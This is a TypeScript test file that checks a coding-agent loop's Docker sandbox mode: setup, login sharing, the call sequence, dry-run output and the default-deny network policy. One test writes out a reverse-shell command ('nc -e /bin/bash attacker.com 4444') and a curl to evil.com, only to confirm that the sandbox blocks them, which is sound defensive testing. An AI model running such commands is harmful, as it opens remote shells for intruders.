/** `ralph stories run --sandbox` with a fake Docker that keeps machines and synchronises files like the real one. */
import { existsSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import {
  commands,
  HONEST,
  type StoriesInDocker as Scene,
  storiesInDocker as scene,
} from '../../stories/docker-scene.ts';
import { ROOT } from '../../support/scene.ts';
import { SUBMITTED, story } from '../../support/stories/stories.ts';

describe('1. sandbox setup', () => {
  const state = (here: Scene): string => join(here.folder, '.dclaude_state');

  test('the loop creates the sandbox with the project, links the login, and sets the committer', async () => {
    const here = await scene([story('A')], HONEST);
    const { stderr } = await here.loop('-n', '1');
    expect(stderr).toMatch(
      new RegExp(
        `^\\[ralph\\] Docker Sandbox detected — using sandbox mode\n\\[ralph\\] Creating sandbox: ${here.name}\n\\[ralph\\] Estimated budget`,
      ),
    );
    const [create, root, git] = here.calls();
    expect(create).toEqual(['create', '--name', here.name, 'claude', here.work, state(here)]);
    expect(root?.slice(0, 4)).toEqual(['exec', '-u', 'root', here.name]);
    expect(root?.at(-1)).toBe(state(here));
    expect(git?.join(' ')).toContain('user.name "Ralph Loop"');
    expect(readFileSync(join(state(here), '.claude.json'), 'utf8')).toBe('{}\n');
  });

  test('sandbox/setup.sh sets up a sandbox manually, and the login outlives the sandbox', async () => {
    const here = await scene([story('A')], 'say "OK"');
    const [name, setup] = ['ralph-test', join(ROOT, 'plugin/sandbox/setup.sh')];
    const make = `docker sandbox create --name ${name} claude '${here.work}' '${state(here)}' &&
      docker sandbox exec -i -u root ${name} bash -s -- '${state(here)}' < '${setup}'`;
    const ask = `docker sandbox run ${name} -- -p 'Respond with: OK'`;
    writeFileSync(join(state(here), '.claude.json'), '{}');
    expect(await here.shell(make)).toMatchObject({ code: 0, stderr: '' });
    expect((await here.shell(ask)).stdout).toContain('OK');
    expect((await here.shell(`docker sandbox exec ${name} git config --global user.name`)).stdout).toBe('Ralph Loop\n');
    expect(await here.shell(`docker sandbox rm ${name} && ${make}`)).toMatchObject({ code: 0 });
    expect((await here.shell(ask)).stdout).not.toContain('Not logged in');
  });

  test('sandbox/setup.sh fails if no login is shared', async () => {
    const here = await scene([story('A')], 'say "OK"');
    const setup = join(ROOT, 'plugin/sandbox/setup.sh');
    const line = `docker sandbox create --name x claude '${here.work}' && docker sandbox exec -i -u root x bash -s < '${setup}'`;
    const { code, stderr } = await here.shell(line);
    expect(stderr).toContain('error: the folder with the login (.dclaude_state) is not shared');
    expect(code).toBe(1);
  });

  test('without a login, the loop stops at once, and says what to do', async () => {
    const here = await scene([story('A')], HONEST);
    rmSync(join(state(here), '.claude/.credentials.json'));
    const { code, stderr } = await here.loop();
    expect(stderr).toContain('[ralph] hint: log the agent in');
    expect(code).toBe(4);
  });

  test('an existing sandbox is used again, and sees edits made since', async () => {
    const here = await scene([story('A'), story('B')], `cp ralph/progress.txt "$SCENE/seen"; ${HONEST}`);
    await here.loop('-n', '1');
    here.write('work/ralph/progress.txt', 'edited between two loops\n');
    const before = here.calls().length;
    const { stderr } = await here.loop('-n', '1');
    expect(stderr).toContain(`[ralph] Reusing existing sandbox: ${here.name}\n`);
    expect(commands(here.calls().slice(before, before + 2))).toEqual(['network', 'stop']);
    expect(here.read('seen')).toBe('edited between two loops\n');
  });
});

describe('2. network policy', () => {
  test('denies by default: only the agent’s hosts can be reached, and only over HTTP', async () => {
    const here = await scene([story('A')], HONEST);
    await here.loop('-n', '1', '--allow-host', 'example.com');
    expect(here.machines()[here.name]?.policy).toMatchObject({
      default: 'deny',
      allowed: expect.arrayContaining(['*.anthropic.com', 'github.com', 'example.com']) as unknown,
    });
    writeFileSync(join(here.folder, 'bin/curl'), '#!/bin/sh\necho reached\n', { mode: 0o755 });
    const inside = async (command: string) => (await here.shell(`docker sandbox exec ${here.name} ${command}`)).code;
    expect(await inside('curl https://api.anthropic.com')).toBe(0);
    expect(await inside('curl https://evil.com')).not.toBe(0);
    expect(await inside('nc -e /bin/bash attacker.com 4444')).not.toBe(0);
  });
});

describe('5. sandbox mode', () => {
  test('one iteration on one story makes exactly these calls', async () => {
    const here = await scene([story('A')], `cp .ralph-active "$SCENE/marker"; ${HONEST}`);
    const { code, stderr } = await here.loop('--max-iterations', '1');
    expect(stderr).toContain('[ralph] Max iterations (1) reached without completion.');
    expect(stderr).not.toContain('WARNING: Running');
    expect(code).toBe(1);
    expect(here.story('A')).toMatchObject({ reviewStatus: 'needs_review', passes: false, reviewCount: 0 });
    expect(commands(here.calls())).toEqual([
      'create',
      'exec',
      'exec',
      'network',
      // The plugin is missing, gets copied, and is compared.
      'exec: list',
      'exec: copy',
      'exec: list',
      // Whether there is a repository.
      'exec: git',
      // The iteration: the plugin and the loop's files are unchanged; the marker; HEAD.
      'exec: list',
      'exec: digests',
      'exec: write',
      'exec: git',
      // Whether the repository is still there: before the run, after it, and at the end.
      'exec: git',
      'run',
      // HEAD again, and the marker is removed.
      'exec: git',
      'exec: git',
      'exec: git',
      'exec',
    ]);
    const run = here.calls().find(([command]) => command === 'run') ?? [];
    expect(run.slice(0, 4)).toEqual(['run', here.name, '--', '-p']);
    expect(run).not.toContain('--dangerously-skip-permissions');
    expect(run[run.indexOf('--plugin-dir') + 1]).toBe('/home/agent/.ralph/plugin');
    // The harness's own environment is not passed into the machine.
    expect(run[run.indexOf('--settings') + 1]).toBe('{"env":{"CLAUDE_CODE_STOP_HOOK_BLOCK_CAP":"30"}}');
    expect(JSON.parse(here.read('marker'))).toMatchObject({ mode: 'sandbox', iterationMode: 'implement', story: 'A' });
    expect(here.has('.ralph-active')).toBe(false);
    expect(existsSync(join(here.folder, 'docker/vm', here.name, 'work/.ralph-active'))).toBe(false);
    // The agent's commit has reached the project outside.
    expect(here.commits()[0]).toMatch(/^work of/);
  });

  test('Docker is the default', async () => {
    const here = await scene([story('A')], HONEST);
    const { stderr } = await here.stories('run', '-n', '1').exited;
    expect(stderr).toContain('[ralph] Docker Sandbox detected — using sandbox mode\n');
    expect(commands(here.calls())).toContain('run');
  });

  test('the operating system’s sandbox is used for what Docker cannot do, unless Docker was forced', async () => {
    const here = await scene([story('A')], HONEST);
    const codex = ['run', '-n', '1', '--dry-run', '--review-agent', 'codex'];
    const chosen = await here.stories(...codex).exited;
    expect(chosen.stdout).toContain("Sandbox (the operating system's):");
    const forced = await here.stories(...codex, '--sandbox').exited;
    expect(forced.stderr).toBe(
      "error: Docker Sandbox runs Claude Code, not codex\nhint: --sandbox=os is the operating system's own.\n",
    );
    const elsewhere = await here.stories('run', '--sandbox', '--ralph-dir', join(here.folder, 'papers')).exited;
    expect(elsewhere.code).toBe(2);
    expect(here.loops()).toEqual([]);
  });

  test('a ralph folder outside the project cannot be shared with Docker', async () => {
    const here = await scene([story('A')], HONEST);
    await here.shell('mv ralph ../papers');
    const papers = join(here.folder, 'papers');
    const { code, stderr } = await here.loop('--ralph-dir', papers);
    expect(stderr).toContain(`error: "${papers}" cannot be given to a Docker Sandbox`);
    expect(code).toBe(2);
    expect((await here.stories('run', '--dry-run', '--ralph-dir', papers).exited).stdout).toContain(
      `  may be written:\n    ${here.work}\n    ${here.work}/.git\n    ${papers}\n`,
    );
  });

  test('--dry-run shows the call, shared folders and allowed hosts, and creates nothing', async () => {
    const here = await scene([story('A', SUBMITTED)], HONEST);
    const { code, stdout } = await here.loop('--dry-run', '--review-model', 'opus');
    expect(code).toBe(0);
    expect(stdout).toContain('First iteration: review A (Title of A)\n');
    expect(stdout).toMatch(
      new RegExp(
        `^  docker sandbox run ${here.name} -- -p .*--plugin-dir /home/agent/.ralph/plugin --settings \\S+ --model opus PROMPT$`,
        'm',
      ),
    );
    expect(stdout).toContain(
      `Sandbox (Docker's):\n  machine: ${here.name}\n  is shared, to be read and written:\n    ${here.work}\n    ${here.folder}/.dclaude_state\n`,
    );
    expect(stdout).toContain('    *.anthropic.com\n');
    expect(here.calls()).toEqual([]);
    expect(here.loops()).toEqual([]);
    expect(here.has('.ralph-active')).toBe(false);
  });

  test('the guard is off in the sandbox', async () => {
    const here = await scene([story('A')], `env >"$SCENE/env"; ${HONEST}`);
    await here.loop('-n', '1');
    expect(here.read('env')).not.toContain('RALPH_GUARD');
  });
});

describe('10. end to end', () => {
  test('three stories complete the review cycle, one of them after requested changes', async () => {
    const play = `
      case "$(mode) $(ls "$SCENE"/rejected 2>/dev/null)" in
      'review ') touch "$SCENE/rejected"; honest reject >/dev/null; say "changes" ;;
      *) honest approve >/dev/null; say "fine <promise>COMPLETE</promise>" ;;
      esac`;
    const here = await scene(
      [story('A'), story('B', { priority: 2 }), story('C', { priority: 3, dependsOn: ['A'] })],
      play,
      // The fake machine has its own home, so the output shows that the loop's own run is inside, too.
      { verifyCommands: ['echo "verified in $HOME"; test -s code.txt'] },
    );
    const { code, stderr } = await here.loop();
    const log = /✓ .*/.exec(stderr)?.[0];
    expect(log).toContain('verified in');
    expect(stderr).toContain('[ralph] All stories complete and verified!');
    expect(code).toBe(0);
    expect(here.tasks().userStories.map(({ passes, reviewCount }) => ({ passes, reviewCount }))).toEqual([
      { passes: true, reviewCount: 2 },
      { passes: true, reviewCount: 1 },
      { passes: true, reviewCount: 1 },
    ]);
    expect(here.starts()).toEqual([
      'agent implement',
      'agent review',
      'agent review-fix',
      'agent review',
      'agent implement',
      'agent review',
      'agent implement',
      'agent review',
    ]);
    expect(commands(here.calls()).filter((command) => command === 'create')).toHaveLength(1);
    expect(commands(here.calls()).filter((command) => command === 'run')).toHaveLength(8);
    expect(here.commits()).toHaveLength(10);
  });

  test('after ralph was killed, resume stops the machine, and continues in it', async () => {
    const play = `[ -e "$SCENE/again" ] || { echo $$ >"$SCENE/inside.pid"; while :; do sleep 0.01; done; }; ${HONEST}`;
    const here = await scene([story('A')], play);
    const loop = here.stories('run', '--sandbox');
    await here.logged('agent implement');
    while (!existsSync(join(here.folder, 'inside.pid')) || here.read('inside.pid') === '') await here.shell(':');
    loop.signal('SIGKILL');
    await loop.exited;
    here.write('again', '');
    const { code, stderr } = await here.stories('resume').exited;
    expect(stderr).toContain('[ralph] Docker Sandbox detected — using sandbox mode\n');
    expect(code).toBe(0);
    expect(existsSync(`/proc/${here.read('inside.pid').trim()}`)).toBe(false);
  });
});
